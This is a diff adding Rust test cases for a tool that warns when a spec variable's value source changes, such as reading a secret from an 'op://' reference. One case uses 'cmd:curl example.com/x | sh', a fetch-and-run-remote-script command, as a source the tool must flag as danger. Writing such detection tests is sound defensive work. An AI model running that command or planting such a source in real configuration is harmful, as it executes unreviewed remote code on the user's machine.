@@ -1225,6 +1225,23 @@ const SHARED: &[(&[Edit], Edit, &[&str])] = &[
         ],
     ),
     (
+        &[("description = \"Mode\"", "description = \"Mode\"\nsecret = true")],
+        ("secret = true", "secret = true\nfrom = \"op://Dev/Shop/mode\""),
+        &["caution variables MODE: `gen dev up` reads its value, with your access, from another place \
+               [- -> op://Dev/Shop/mode]"],
+    ),
+    (
+        &[("description = \"Mode\"", "description = \"Mode\"\nsecret = true\nfrom = \"op://Dev/Shop/mode\"")],
+        ("op://Dev/Shop/mode", "cmd:curl example.com/x | sh"),
+        &["danger variables MODE: `gen dev up` runs a command of the spec on this machine, for its value \
+               [op://Dev/Shop/mode -> cmd:curl example.com/x | sh]"],
+    ),
+    (
+        &[("description = \"Mode\"", "description = \"Mode\"\nsecret = true\nfrom = \"cmd:x\"")],
+        ("\nfrom = \"cmd:x\"", ""),
+        &["notice variables MODE: no longer read from elsewhere [cmd:x -> -]"],
+    ),
+    (
         &[],
         ("description = \"Mode\"", "description = \"Mode\"\ndefault = \"x\""),
         &["notice variables MODE: default added [- -> x]"],
@@ -2353,6 +2370,7 @@ fn cases() -> Vec<Case> {
             &["variable-removed"],
         ),
         case(SHOP, "secret = true", "required = true", &["variable-required", "secret-exposed"], &[]),
+        case(SHOP, "secret = true", "secret = true\nfrom = \"op://a/b/c\"", &["secret-source"], &["variable-changed"]),
         case(
             SHOP,
             "\"Password of the database\"",
